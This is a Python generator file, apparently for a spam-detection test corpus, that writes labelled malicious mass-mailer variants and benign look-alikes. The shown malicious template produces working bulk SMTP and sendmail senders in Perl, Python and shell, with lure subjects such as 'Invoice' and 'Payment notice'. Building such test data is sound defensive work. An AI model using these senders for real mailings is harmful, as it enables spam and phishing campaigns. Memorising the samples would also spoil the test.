    """A bulk sender in Perl, Python or shell reading its list from a file or argv."""
    r = g.rng
    lang = r.choice(["pl", "py", "sh"])
    g.lang = lang
    if lang == "pl":
        send = r.choice([
            ("    my $smtp = Net::SMTP->new($host, Port => 587, Timeout => 20) or next;\n    $smtp->auth($user, $pass);\n"
             "    $smtp->mail($from);\n    $smtp->to($to);\n    $smtp->data();\n    $smtp->datasend(\"To: $to\\nSubject: $subj\\n\\n$body\");\n"
             "    $smtp->dataend();\n    $smtp->quit;\n"),
            ("    my $msg = MIME::Lite->new(From => $from, To => $to, Subject => $subj, Type => 'text/html', Data => $body);\n"
             "    $msg->send('smtp', $host, AuthUser => $user, AuthPass => $pass);\n"),
            ("    open(my $sm, '|-', '/usr/sbin/sendmail -t') or die;\n    print $sm \"To: $to\\nFrom: $from\\nSubject: $subj\\n\\n$body\";\n    close($sm);\n"),
        ])
        use = "use strict;\nuse Net::SMTP;\nuse MIME::Lite;\n"
        loop = r.choice([
            "open(my $fh, '<', $ARGV[0]) or die;\nwhile (my $to = <$fh>) {\n    chomp $to;\n",
            "open(L, \"%s\");\nmy @list = <L>;\nclose(L);\nforeach my $to (@list) {\n    chomp($to);\n" % r.choice(["list.txt", "m.txt"]),
            "while (my $to = <STDIN>) {\n    chomp $to;\n",
        ])
        return ("#!/usr/bin/perl\n" + use + "my ($host, $user, $pass, $from, $subj) = ('%s', 'u', 'p', 'a@example.com', 'Invoice');\n" % _ip(r) +
                "my $body = do { local $/; open my $b, '<', 'letter.html'; <$b> };\n" + loop + send +
                "    print \"sent $to\\n\";\n    sleep %d;\n}\n" % r.randint(0, 3))
    if lang == "py":
        loop = r.choice([
            "for to in open(sys.argv[1]):\n    to = to.strip()\n",
            "with open('%s') as f:\n    addrs = [l.strip() for l in f if '@' in l]\nfor to in addrs:\n" % r.choice(["list.txt", "leads.txt"]),
            "for row in csv.reader(open(sys.argv[1])):\n    to = row[0]\n",
        ])
        send = r.choice([
            ("    msg = MIMEText(body, 'html')\n    msg['Subject'] = subj\n    msg['From'] = frm\n    msg['To'] = to\n"
             "    s = smtplib.SMTP(host, 587)\n    s.starttls()\n    s.login(user, pw)\n    s.sendmail(frm, [to], msg.as_string())\n    s.quit()\n"),
            ("    srv.sendmail(frm, to, 'Subject: %s\\nTo: %s\\n\\n%s' % (subj, to, body))\n"),
            ("    m = EmailMessage()\n    m['To'] = to\n    m['From'] = frm\n    m['Subject'] = subj\n    m.set_content(body)\n    srv.send_message(m)\n"),
        ])
        return ("#!/usr/bin/env python3\nimport sys, csv, smtplib, time, random\nfrom email.mime.text import MIMEText\nfrom email.message import EmailMessage\n"
                "host, user, pw, frm, subj = '%s', 'u', 'p', 'a@example.com', 'Your parcel'\nbody = open('letter.html').read()\n" % _ip(r) +
                "srv = smtplib.SMTP(host, 25)\n" + loop + send + "    print('sent', to)\n    time.sleep(random.random())\n")
    loop = r.choice([
        "while read -r to; do\n",
        "for to in $(cat \"$1\"); do\n",
        "cat list.txt | while IFS= read -r to; do\n",
    ])
    send = r.choice([
        "  mail -s \"$SUBJ\" -a \"From: $FROM\" \"$to\" < letter.txt\n",
        "  printf 'To: %s\\nFrom: %s\\nSubject: %s\\n\\n' \"$to\" \"$FROM\" \"$SUBJ\" | cat - letter.html | /usr/sbin/sendmail -t\n",
        "  swaks --to \"$to\" --from \"$FROM\" --server %s --header \"Subject: $SUBJ\" --body letter.txt\n" % _ip(r),
    ])
    tail = "done < \"$1\"\n" if loop.startswith("while read") else "done\n"
    return "#!/bin/bash\nFROM=a@example.com\nSUBJ='Payment notice'\n" + loop + send + "  echo \"$to sent\"\n  sleep 1\n" + tail


# ---------------------------------------------------------------------------
# benign look-alikes


def b_newsletter(g):
    """A newsletter plugin mailing its own subscribers from the database, with an
    unsubscribe link, behind an admin capability and a nonce."""
    r = g.rng
    sub = _v(r)
    return ("<?php\nif (!defined('ABSPATH')) exit;\n"
            "function nl_send_issue($issue_id) {\n    if (!current_user_can('manage_options')) return;\n"
            "    check_admin_referer('nl_send_' . $issue_id);\n    global $wpdb;\n"
            "    $issue = get_post($issue_id);\n"
            "    $subs = $wpdb->get_results(\"SELECT id, email, token FROM {$wpdb->prefix}nl_subscribers WHERE status = 'confirmed'\");\n"
            "    foreach ($subs as $%s) {\n        $unsub = add_query_arg(array('nl_unsub' => $%s->token), home_url('/'));\n"
            "        $body = $issue->post_content . '<p><a href=\"' . esc_url($unsub) . '\">Unsubscribe</a></p>';\n"
            "        $headers = array('Content-Type: text/html; charset=UTF-8', 'List-Unsubscribe: <' . $unsub . '>');\n"
            "        wp_mail($%s->email, $issue->post_title, $body, $headers);\n        %s    }\n}\n") % (
        sub, sub, sub, r.choice(["usleep(100000);\n", "", "$wpdb->update($wpdb->prefix . 'nl_log', array('sent' => 1), array('sid' => $%s->id));\n" % sub]))


def b_phpmailer_db_example(g):
    """PHPMailer's mailing-list example shape: the list from the database, one
    message per row, addresses cleared after each send."""
    r = g.rng
    return ("<?php\nuse PHPMailer\\PHPMailer\\PHPMailer;\nrequire '../vendor/autoload.php';\n"
            "$mail = new PHPMailer();\n$body = file_get_contents('contents.html');\n$mail->isSMTP();\n$mail->Host = 'smtp.example.com';\n"
            "$mail->SMTPAuth = true;\n$mail->SMTPKeepAlive = true;\n$mail->Username = 'yourname@example.com';\n$mail->Password = 'yourpassword';\n"
            "$mail->setFrom('list@example.com', 'List manager');\n$mail->Subject = 'PHPMailer Simple database mailing list test';\n"
            "$mysql = mysqli_connect('localhost', 'username', 'password');\nmysqli_select_db($mysql, 'mydb');\n"
            "$result = mysqli_query($mysql, 'SELECT full_name, email, photo FROM mailinglist WHERE sent = FALSE');\n"
            "foreach ($result as $row) {\n    try {\n        $mail->addAddress($row['email'], $row['full_name']);\n    } catch (Exception $e) {\n        continue;\n    }\n"
            "    $mail->msgHTML(str_replace('{name}', $row['full_name'], $body));\n"
            "    try {\n        $mail->send();\n        mysqli_query($mysql, \"UPDATE mailinglist SET sent = TRUE WHERE email = '\" . mysqli_real_escape_string($mysql, $row['email']) . \"'\");\n"
            "    } catch (Exception $e) {\n        echo 'Mailer Error (' . htmlspecialchars($row['email']) . ') ' . $mail->ErrorInfo . '<br>';\n        $mail->getSMTPInstance()->reset();\n    }\n"
            "    $mail->clearAddresses();\n    $mail->clearAttachments();\n}\n")


def b_contact_form(g):
    """A contact form: the visitor's address validated, one message to the owner."""
    r = g.rng
    rq = r.choice(["$_POST", "$_REQUEST"])
    return ("<?php\nsession_start();\n$to = '%s';\n$errors = array();\nif ($_SERVER['REQUEST_METHOD'] === 'POST') {\n"
            "    if (!hash_equals($_SESSION['csrf'], %s['csrf'] ?? '')) die('bad token');\n"
            "    $email = filter_var(%s['email'], FILTER_VALIDATE_EMAIL);\n    $name = strip_tags(%s['name']);\n    $message = strip_tags(%s['message']);\n"
            "    $subject = 'Contact: ' . substr(strip_tags(%s['subject']), 0, 80);\n"
            "    if (!$email) $errors[] = 'email';\n    if (!$errors) {\n        $h = 'From: webmaster@example.com' . \"\\r\\n\" . 'Reply-To: ' . $email;\n"
            "        mail($to, $subject, \"$name <$email> wrote:\\n\\n$message\", $h);\n        echo 'Thank you';\n    }\n}\n") % (
        r.choice(["info@example.com", "owner@example.org"]), rq, rq, rq, rq, rq)


def b_password_reset(g):
    """A password reset: one user's address from the database, a token, one mail."""
    return ("<?php\nrequire 'db.php';\n$email = filter_input(INPUT_POST, 'email', FILTER_VALIDATE_EMAIL);\n"
            "$st = $pdo->prepare('SELECT id, email FROM users WHERE email = ?');\n$st->execute(array($email));\n"
            "if ($u = $st->fetch()) {\n    $tok = bin2hex(random_bytes(16));\n    $pdo->prepare('UPDATE users SET reset = ? WHERE id = ?')->execute(array($tok, $u['id']));\n"
            "    mail($u['email'], 'Password reset', 'https://example.com/reset.php?t=' . $tok, 'From: noreply@example.com');\n}\necho 'If the address exists, a link was sent.';\n")


def b_monitor_root(g):
    """A monitoring cron job that loops over disks or sites and mails root once."""
    r = g.rng
    lang = r.choice(["php", "sh", "pl", "py"])
    g.lang = lang
    if lang == "php":
        return ("#!/usr/bin/php\n<?php\n$report = '';\nforeach (file('/etc/monitor/sites.txt', FILE_IGNORE_NEW_LINES) as $site) {\n"
                "    $t = microtime(true);\n    $ok = @file_get_contents($site) !== false;\n    if (!$ok) $report .= \"$site DOWN\\n\";\n}\n"
                "if ($report) mail('root', 'site monitor: ' . gethostname(), $report);\n")
    if lang == "sh":
        return ("#!/bin/sh\n# disk usage alert\nADMIN=root\nout=''\nwhile read -r fs; do\n  use=$(df -P \"$fs\" | awk 'NR==2 {print $5}' | tr -d '%')\n"
                "  [ \"$use\" -gt 90 ] && out=\"$out$fs $use%\\n\"\ndone < /etc/diskwatch.conf\n"
                "[ -n \"$out\" ] && printf \"$out\" | mail -s \"disk alert on $(hostname)\" \"$ADMIN\"\nexit 0\n")
    if lang == "pl":
        return ("#!/usr/bin/perl\nuse strict;\nuse Net::SMTP;\nmy @bad;\nopen(my $fh, '<', '/etc/certwatch.list') or die;\n"
                "while (my $h = <$fh>) {\n    chomp $h;\n    my $days = `openssl x509 -enddate -noout -in $h`;\n    push @bad, $h if $days =~ /2026/;\n}\n"
                "exit 0 unless @bad;\nmy $smtp = Net::SMTP->new('localhost');\n$smtp->mail('certwatch@localhost');\n$smtp->to('root@localhost');\n"
                "$smtp->data();\n$smtp->datasend(\"Subject: expiring certificates\\n\\n\" . join(\"\\n\", @bad));\n$smtp->dataend();\n$smtp->quit;\n")
    return ("#!/usr/bin/env python3\nimport smtplib, shutil\nfrom email.message import EmailMessage\nlow = []\n"
            "for line in open('/etc/quota-watch.conf'):\n    path = line.strip()\n    if path and shutil.disk_usage(path).free < 1 << 30:\n        low.append(path)\n"
            "if low:\n    m = EmailMessage()\n    m['To'] = 'root@localhost'\n    m['From'] = 'quota@localhost'\n    m['Subject'] = 'low disk'\n"
            "    m.set_content('\\n'.join(low))\n    with smtplib.SMTP('localhost') as s:\n        s.send_message(m)\n")


def b_backup_wpconfig(g):
    """A backup script reading wp-config.php for the database login, dumping the
    database and mailing the admin a line (no password leaves the host)."""
    r = g.rng
    lang = r.choice(["sh", "php"])
    g.lang = lang
    if lang == "sh":
        return ("#!/bin/bash\nset -e\nSITE=/var/www/site\nDB=$(grep DB_NAME $SITE/wp-config.php | cut -d \\' -f 4)\n"
                "USER=$(grep DB_USER $SITE/wp-config.php | cut -d \\' -f 4)\nPASS=$(grep DB_PASSWORD $SITE/wp-config.php | cut -d \\' -f 4)\n"
                "mysqldump -u\"$USER\" -p\"$PASS\" \"$DB\" | gzip > /backup/$DB-$(date +%F).sql.gz\n"
                "echo \"backup of $DB done\" | mail -s \"backup $(hostname)\" root\n")
    return ("<?php\n// wp-cli-like backup helper\n$cfg = file_get_contents(__DIR__ . '/wp-config.php');\n"
            "preg_match(\"/define\\\\(\\\\s*'DB_PASSWORD'\\\\s*,\\\\s*'([^']*)'/\", $cfg, $m);\n$pass = $m[1];\n"
            "preg_match(\"/define\\\\(\\\\s*'DB_NAME'\\\\s*,\\\\s*'([^']*)'/\", $cfg, $m);\n$db = $m[1];\n"
            "$dump = '/backup/' . $db . '-' . date('Ymd') . '.sql';\n"
            "exec('mysqldump -u root -p' . escapeshellarg($pass) . ' ' . escapeshellarg($db) . ' > ' . escapeshellarg($dump), $o, $rc);\n"
            "if ($rc !== 0) mail('root', 'backup failed', implode(\"\\n\", $o));\n")


def b_sms_2fa(g):
    """A two-factor plugin sending one code to the logged-in user's number."""
    return ("<?php\nfunction tfa_send_code($user_id) {\n    $phone = get_user_meta($user_id, 'tfa_phone', true);\n    $code = random_int(100000, 999999);\n"
            "    update_user_meta($user_id, 'tfa_code', wp_hash($code));\n    $opt = get_option('tfa_twilio');\n"
            "    $ch = curl_init('https://api.twilio.com/2010-04-01/Accounts/' . $opt['sid'] . '/Messages.json');\n"
            "    curl_setopt($ch, CURLOPT_USERPWD, $opt['sid'] . ':' . $opt['token']);\n"
            "    curl_setopt($ch, CURLOPT_POSTFIELDS, http_build_query(array('To' => $phone, 'From' => $opt['from'], 'Body' => 'Your code: ' . $code)));\n"
            "    curl_setopt($ch, CURLOPT_RETURNTRANSFER, true);\n    return curl_exec($ch);\n}\n")


def b_email_encoder(g):
    """An address obfuscator: finds addresses in the page by regex and encodes them
    (a real plugin family), nothing saved or sent."""
    return ("<?php\nadd_filter('the_content', 'eae_encode_emails', 20);\nfunction eae_encode_emails($content) {\n"
            "    return preg_replace_callback('/[a-z0-9_.+-]+@[a-z0-9-]+\\.[a-z0-9.-]+/i', function ($m) {\n"
            "        $out = '';\n        foreach (str_split($m[0]) as $c) $out .= '&#' . ord($c) . ';';\n        return $out;\n    }, $content);\n}\n")


def b_import_subscribers(g):
    """A newsletter's CSV import: an admin uploads a list, the rows go into the
    database with a confirmation pending; one summary mail to the admin."""
    return ("<?php\nif (!current_user_can('manage_options')) wp_die('no');\ncheck_admin_referer('nl_import');\n"
            "$h = fopen($_FILES['csv']['tmp_name'], 'r');\n$n = 0;\nwhile (($row = fgetcsv($h)) !== false) {\n"
            "    $email = sanitize_email($row[0]);\n    if (!is_email($email)) continue;\n"
            "    $wpdb->insert($wpdb->prefix . 'nl_subscribers', array('email' => $email, 'status' => 'pending'));\n    $n++;\n}\n"
            "wp_mail(get_option('admin_email'), 'Import done', $n . ' subscribers imported');\n")


def b_script_notifier(g):
    """Per-entry notices in a script that are not spam: a Debian maintainer-like
    script mailing the owners of expiring accounts from the system's own list."""
    r = g.rng
    lang = r.choice(["sh", "py", "pl"])
    g.lang = lang
    if lang == "sh":
        return ("#!/bin/sh\n# notify users whose quota is over the soft limit (from repquota)\n"
                "repquota -u /home | awk '$3 > $4 && $4 > 0 {print $1}' | while read -r user; do\n"
                "  [ \"$user\" = root ] && continue\n  echo \"Your quota on $(hostname) is over the limit.\" | mail -s 'quota warning' \"$user\"\ndone\n")
    if lang == "py":
        return ("#!/usr/bin/env python3\n# remind the package owners of their stale uploads (from the archive's database)\nimport sqlite3, smtplib\n"
                "from email.message import EmailMessage\ndb = sqlite3.connect('/var/lib/archive/uploads.db')\n"
                "with smtplib.SMTP('localhost') as s:\n    for owner, pkg in db.execute('SELECT owner, name FROM uploads WHERE age > 365'):\n"
                "        m = EmailMessage()\n        m['To'] = owner\n        m['From'] = 'archive@localhost'\n        m['Subject'] = '%s is stale' % pkg\n"
                "        m.set_content('Please update or remove %s.' % pkg)\n        s.send_message(m)\n")
    return ("#!/usr/bin/perl\n# mail each account's owner a usage summary, accounts from getpwent\nuse strict;\nuse Mail::Sendmail;\n"
            "while (my @pw = getpwent()) {\n    next if $pw[2] < 1000;\n    my $use = `du -sh $pw[7] 2>/dev/null`;\n"
            "    sendmail(To => $pw[0] . '@localhost', From => 'root@localhost', Subject => 'disk usage', Message => $use);\n}\n")


def b_smtp_test_settings(g):
    """A mail plugin's "test connection" page: the one server an admin typed,
    one login, one test message to the admin."""
    return ("<?php\nif (!current_user_can('manage_options')) wp_die('no');\ncheck_admin_referer('smtp_test');\n"
            "$m = new PHPMailer\\PHPMailer\\PHPMailer(true);\n$m->isSMTP();\n$m->Host = sanitize_text_field($_POST['host']);\n"
            "$m->Port = (int)$_POST['port'];\n$m->SMTPAuth = true;\n$m->Username = sanitize_text_field($_POST['user']);\n"
            "$m->Password = $_POST['pass'];\ntry {\n    $ok = $m->smtpConnect();\n    $m->setFrom(get_option('admin_email'));\n"
            "    $m->addAddress(get_option('admin_email'));\n    $m->Subject = 'SMTP test';\n    $m->Body = 'It works.';\n    $m->send();\n"
            "    echo $ok ? 'Connected' : 'Failed';\n} catch (Exception $e) {\n    echo esc_html($m->ErrorInfo);\n}\n")


def b_multi_backup(g):
    """A host's backup cron over every account's WordPress: the config read for
    mysqldump, the dumps kept on the host, root told when done."""
    r = g.rng
    if r.random() < 0.5:
        g.lang = "sh"
        return ("#!/bin/bash\nfor cfg in /home/*/public_html/wp-config.php; do\n  db=$(grep DB_NAME \"$cfg\" | cut -d \\' -f 4)\n"
                "  u=$(grep DB_USER \"$cfg\" | cut -d \\' -f 4)\n  p=$(grep DB_PASSWORD \"$cfg\" | cut -d \\' -f 4)\n"
                "  mysqldump -u\"$u\" -p\"$p\" \"$db\" | gzip > \"/backup/$db.sql.gz\"\ndone\n"
                "ls -l /backup | mail -s \"wp backups $(hostname)\" root\n")
    g.lang = "php"
    return ("#!/usr/bin/php\n<?php\nforeach (glob('/home/*/public_html/wp-config.php') as $cfg) {\n    $c = file_get_contents($cfg);\n"
            "    preg_match(\"/'DB_NAME',\\s*'([^']+)'/\", $c, $n);\n    preg_match(\"/'DB_PASSWORD',\\s*'([^']*)'/\", $c, $p);\n"
            "    exec('mysqldump -p' . escapeshellarg($p[1]) . ' ' . escapeshellarg($n[1]) . ' | gzip > /backup/' . escapeshellarg($n[1]) . '.gz');\n}\n"
            "mail('root', 'backups done', implode(\"\\n\", glob('/backup/*.gz')));\n")


def b_sms_admin_bulk(g):
    """An SMS plugin's "send to numbers" admin page: typed numbers, one API call
    each, behind a capability check and a nonce."""
    return ("<?php\nif (!current_user_can('manage_options')) return;\ncheck_admin_referer('wpsms_send');\n$opt = get_option('wpsms');\n"
            "foreach (explode(\"\\n\", $_POST['numbers']) as $num) {\n    $num = preg_replace('/[^0-9+]/', '', $num);\n"
            "    $ch = curl_init('https://api.sms.example/send');\n    curl_setopt($ch, CURLOPT_POSTFIELDS, array('key' => $opt['key'], 'to' => $num, 'text' => sanitize_textarea_field($_POST['message'])));\n"
            "    curl_setopt($ch, CURLOPT_RETURNTRANSFER, true);\n    curl_exec($ch);\n}\n")


def b_link_checker(g):
    """A link checker: posted URLs fetched one by one, the status shown."""
    return ("<?php\nsession_start();\nif (empty($_SESSION['admin'])) exit;\nforeach (preg_split('/\\R/', $_POST['urls']) as $u) {\n"
            "    $u = trim($u);\n    if (!filter_var($u, FILTER_VALIDATE_URL)) continue;\n    $h = @get_headers($u);\n"
            "    echo htmlspecialchars($u) . ': ' . ($h ? $h[0] : 'unreachable') . \"<br>\\n\";\n}\n")


def b_crm_export(g):
    """A CRM's customer export: the address column of its own table as CSV."""
    return ("<?php\nrequire 'auth.php';\nrequire_login('admin');\nheader('Content-Type: text/csv');\n"
            "header('Content-Disposition: attachment; filename=\"customers.csv\"');\n$out = fopen('php://output', 'w');\n"
            "$res = $pdo->query('SELECT name, email FROM customers ORDER BY name');\nwhile ($row = $res->fetch(PDO::FETCH_ASSOC)) {\n"
            "    fputcsv($out, array($row['name'], $row['email']));\n}\n")


def b_notify_settings(g):
    """A plugin's settings page with a textarea of notification addresses (saved
    by the settings API) and the hook that mails each of them on an event."""
    r = g.rng
    v = r.choice(["emails", "list", "recipients"])
    return ("<?php\nfunction ordn_settings_page() {\n    ?>\n    <form method=\"post\" action=\"options.php\">\n"
            "    <?php settings_fields('ordn'); ?>\n    <textarea name=\"ordn_%s\"><?php echo esc_textarea(get_option('ordn_%s')); ?></textarea>\n"
            "    <?php submit_button(); ?>\n    </form>\n    <?php\n}\n"
            "function ordn_notify($order_id) {\n    $%s = get_option('ordn_%s');\n    foreach (explode(\"\\n\", $%s) as $to) {\n"
            "        wp_mail(trim($to), 'New order #' . $order_id, 'See the dashboard.');\n    }\n}\nadd_action('woocommerce_new_order', 'ordn_notify');\n") % (
        v, v, v, v, v)


def b_upload_and_digest(g):
    """A plugin file that handles an image upload (move_uploaded_file) and, in
    another function, mails its subscribers a digest with wp_mail in a loop."""
    return ("<?php\nfunction gal_upload() {\n    check_admin_referer('gal');\n    $ext = strtolower(pathinfo($_FILES['img']['name'], PATHINFO_EXTENSION));\n"
            "    if (in_array($ext, array('jpg', 'png'), true) && getimagesize($_FILES['img']['tmp_name']))\n"
            "        move_uploaded_file($_FILES['img']['tmp_name'], wp_upload_dir()['path'] . '/' . sha1_file($_FILES['img']['tmp_name']) . '.' . $ext);\n}\n"
            "function gal_digest() {\n    global $wpdb;\n    foreach ($wpdb->get_results(\"SELECT email FROM {$wpdb->prefix}gal_subs\") as $s) {\n"
            "        wp_mail($s->email, 'New photos', 'See ' . home_url('/gallery/'));\n    }\n}\n")


def b_deploy_installer(g):
    """A deploy script fetching a vendor installer over HTTPS and running it."""
    return ("#!/bin/sh\nset -eu\n# install composer the documented way, checksum verified\nEXPECTED=\"$(curl -fsSL https://composer.github.io/installer.sig)\"\n"
            "curl -fsSL https://getcomposer.org/installer -o composer-setup.php\nACTUAL=\"$(sha384sum composer-setup.php | cut -d ' ' -f 1)\"\n"
            "[ \"$EXPECTED\" = \"$ACTUAL\" ] || { echo 'bad checksum' >&2; exit 1; }\nphp composer-setup.php --quiet\nrm composer-setup.php\n")


# name, function, class, extension ("auto": the template sets g.lang), expectation
MAIL_TEMPLATES = [
    ("php_post_list", t_php_post_list, "malicious", "php", "high"),
    ("php_upload_list", t_php_upload_list, "malicious", "php", "high"),
    ("php_globals_list", t_php_globals_list, "malicious", "php", "high"),
    ("php_file_list", t_php_file_list, "malicious", "php", "high"),
    ("php_phpmailer_list", t_php_phpmailer_list, "malicious", "php", "high"),
    ("php_swift_list", t_php_swift_list, "malicious", "php", "high"),
    ("php_raw_smtp", t_php_raw_smtp, "malicious", "php", "high"),
    ("php_db_list", t_php_db_list, "malicious", "php", "high"),
    ("php_remote_job", t_php_remote_job, "malicious", "php", "high"),
    ("smtp_checker", t_smtp_checker, "malicious", "php", "high"),
    ("inbox_test", t_inbox_test, "malicious", "php", "any"),
    ("extractor", t_extractor, "malicious", "php", "any"),
    ("sms_blaster", t_sms_blaster, "malicious", "php", "high"),
    ("cred_stealer", t_cred_stealer, "malicious", "auto", "high"),
    ("script_bulk", t_script_bulk, "malicious", "auto", "high"),
    ("newsletter", b_newsletter, "benign", "php", "none"),
    ("phpmailer_db_example", b_phpmailer_db_example, "benign", "php", "none"),
    ("contact_form", b_contact_form, "benign", "php", "none"),
    ("password_reset", b_password_reset, "benign", "php", "none"),
    ("monitor_root", b_monitor_root, "benign", "auto", "none"),
    ("backup_wpconfig", b_backup_wpconfig, "benign", "auto", "none"),
    ("sms_2fa", b_sms_2fa, "benign", "php", "none"),
    ("email_encoder", b_email_encoder, "benign", "php", "none"),
    ("import_subscribers", b_import_subscribers, "benign", "php", "none"),
    ("script_notifier", b_script_notifier, "benign", "auto", "none"),
    ("deploy_installer", b_deploy_installer, "benign", "sh", "none"),
    ("smtp_test_settings", b_smtp_test_settings, "benign", "php", "none"),
    ("multi_backup", b_multi_backup, "benign", "auto", "none"),
    ("sms_admin_bulk", b_sms_admin_bulk, "benign", "php", "none"),
    ("link_checker", b_link_checker, "benign", "php", "none"),
    ("crm_export", b_crm_export, "benign", "php", "none"),
    ("notify_settings", b_notify_settings, "benign", "php", "none"),
    ("upload_and_digest", b_upload_and_digest, "benign", "php", "none"),
]


class _G:
    def __init__(self, rng):
        self.rng = rng
        self.lang = "php"


def main():
    """mailgen.py --out DIR [--seed N] [--per N]: these templates' variants and
    variants.tsv (file, class, technique, lang, expect, transforms)."""
    import argparse
    import hashlib
    import os
    import random
    import sys
    sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
    from gen_variants import safe_out_dir
    ap = argparse.ArgumentParser(description="mass-mailer variants and look-alikes, round 6")
    ap.add_argument("--out", required=True)
    ap.add_argument("--seed", type=int, default=1)
    ap.add_argument("--per", type=int, default=8)
    a = ap.parse_args()
    out = safe_out_dir(a.out)
    os.makedirs(out, exist_ok=True)
    with open(os.path.join(out, "variants.tsv"), "w") as tsv:
        tsv.write("file\tclass\ttechnique\tlang\texpect\ttransforms\n")
        for name, fn, cls, lang, expect in MAIL_TEMPLATES:
            for i in range(a.per):
                tag = "mail6:%s:%s:%d" % (a.seed, name, i)
                g = _G(random.Random(tag))
                g.lang = lang if lang != "auto" else "php"
                text = fn(g)
                fname = hashlib.sha256(tag.encode()).hexdigest()[:12] + "." + g.lang
                with open(os.path.join(out, fname), "wb") as f:
                    f.write(text.encode("latin-1"))
                tsv.write("\t".join((fname, cls, name, g.lang, expect, "-")) + "\n")


if __name__ == "__main__":
    main()
